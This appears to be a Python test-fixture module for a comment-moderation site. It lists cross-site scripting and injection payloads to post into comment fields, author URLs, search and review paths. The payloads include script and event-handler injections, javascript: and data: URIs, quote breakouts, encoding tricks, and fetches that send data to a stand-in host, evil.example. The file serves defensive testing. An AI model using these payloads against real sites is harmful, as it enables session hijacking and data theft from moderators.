"""What people put into comment forms to run a script in a moderator's browser.

Each is a field and what is posted in it. A script that ran would call `owned()`, and a request
that got out would go to evil.example; the tests watch for both.
"""

from typing import NamedTuple

FETCH = "owned();fetch('https://evil.example/stolen')"


class Attack(NamedTuple):
    """What is posted in which field."""

    field: str
    value: str


MARKUP = (
    f"<script>{FETCH}</script>",
    "<script src=https://evil.example/x.js></script>",
    f"<ScRiPt\n>{FETCH}</sCrIpT\t>",
    f"<img src=x onerror={FETCH}>",
    f"<img src=https://evil.example/pixel.gif onload={FETCH}>",
    f"<svg onload={FETCH}>",
    f"<svg><script>{FETCH}</script></svg>",
    "<svg><use href=https://evil.example/x.svg#a></svg>",
    f"<svg><animate onbegin={FETCH} attributeName=x dur=1s></svg>",
    f"<body onload={FETCH}>",
    f"<input autofocus onfocus={FETCH}>",
    f"<details open ontoggle={FETCH}>",
    f"<video><source onerror={FETCH}></video>",
    f"<audio src=x onerror={FETCH}>",
    f"<iframe src=javascript:{FETCH}></iframe>",
    f"<iframe srcdoc='<script>parent.{FETCH}</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/prefetched>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<style>body { background: url(https://evil.example/bg) }</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>Sign in</button></form>",
    "</textarea></title></script><script>owned()</script>",
    "--><script>owned()</script><!--",
    "]]><script>owned()</script>",
    "<plaintext>",
    "<noscript><p title='</noscript><script>owned()</script>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=owned()></style>",
    "<a href=javascript:owned()>read more</a>",
    "<marquee onstart=owned()>look</marquee>",
    "<template><script>owned()</script></template>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>covered</div>",
    "</div></div></section></main></body></html><h1>free</h1>",
    "&lt;script&gt;owned()&lt;/script&gt;",
    "&#60;script&#62;owned()&#60;/script&#62;",
    "\\u003cscript\\u003eowned()\\u003c/script\\u003e",
    "%3Cscript%3Eowned()%3C/script%3E",
    "{{ ''.__class__.__mro__ }}{% raw %}{{ 7 * 7 }}",
    "${owned()} #{owned()} <%= owned() %>",
    "<scr\x0bipt>owned()</scr\x0bipt>",
    "\u202e>tpircs/<)(denwo>tpircs<",
    "\ufeff<script>owned()</script>",
    "＜script＞owned()＜/script＞",
    "[url=javascript:owned()]click[/url] [img]https://evil.example/i.png[/img]",
    "[click](javascript:owned()) ![x](https://evil.example/i.png)",
    "W" * 3900,
    "\u0301" * 500 + "z" + "\u0489" * 500,
    "\n" * 400 + "far below",
)
QUOTES = (
    '" onmouseover=owned() autofocus onfocus=owned() x="',
    "' onmouseover=owned() autofocus onfocus=owned() x='",
    "` onmouseover=owned() x=`",
    '"><script>owned()</script>',
    "'><img src=x onerror=owned()>",
    '"><svg/onload=owned()>',
    'x" style="position:fixed;inset:0" y="',
)
SCHEMES = (
    "javascript:owned()",
    "JaVaScRiPt:owned()",
    "java\tscript:owned()",
    " javascript:owned()",
    "javascript://evil.example/%0aowned()",
    "data:text/html,<script>owned()</script>",
    "data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=owned()>",
    "vbscript:owned()",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "view-source:javascript:owned()",
    "filesystem:https://evil.example/x",
    "about:blank",
    "mailto:a@evil.example?subject=<script>owned()</script>",
    "//evil.example/x",
    "https:evil.example",
    "https://bank.example@evil.example/",
    'https://evil.example/"><script>owned()</script>',
    "https://evil.example/' onmouseover='owned()",
    "https://evil.example\\@bank.example/",
    "https://\u202eelpmaxe.knab/",
    "https://аррӏе.example/",
    "https://evil.example/" + "a" * 3900,
)

ATTACKS = (
    *(Attack("text", value) for value in (*MARKUP, *QUOTES)),
    *(Attack("author_name", value) for value in (*MARKUP[:12], *QUOTES)),
    *(Attack("author_url", value) for value in (*SCHEMES, *QUOTES)),
    *(Attack("author_email", f"{value}@evil.example") for value in (*MARKUP[:6], *QUOTES)),
    *(Attack("author_email", f"a@{value}") for value in (*MARKUP[:6], *QUOTES)),
    *(Attack("article_title", value) for value in (*MARKUP[:12], *QUOTES)),
    *(Attack("article_text", value) for value in MARKUP[:6]),
    *(Attack("note", value) for value in (*MARKUP[:12], *QUOTES)),
    *(Attack("external_id", value[:200]) for value in QUOTES),
)
SEARCHES = (*MARKUP[:8], *QUOTES, *SCHEMES[:6])
PATHS = tuple(
    path
    for value in ("<script>owned()</script>", '"><svg onload=owned()>', "%3Cscript%3Eowned()")
    for path in (
        f"/review/{value}",
        f"/review/audit/{value}",
        f"/review/queue?tab={value}",
        f"/review/queue?open={value}",
        f"/review/queue?after={value}",
        f"/review/queue?host={value}",
        f"/review/queue?since={value}",
        f"/review/queue?author={value}",
        f"/review/sign-in?back={value}",
        f"/review/audit?moderator={value}",
        f"/review/overview?site={value}",
        f"/review/overview?days={value}",
    )
)
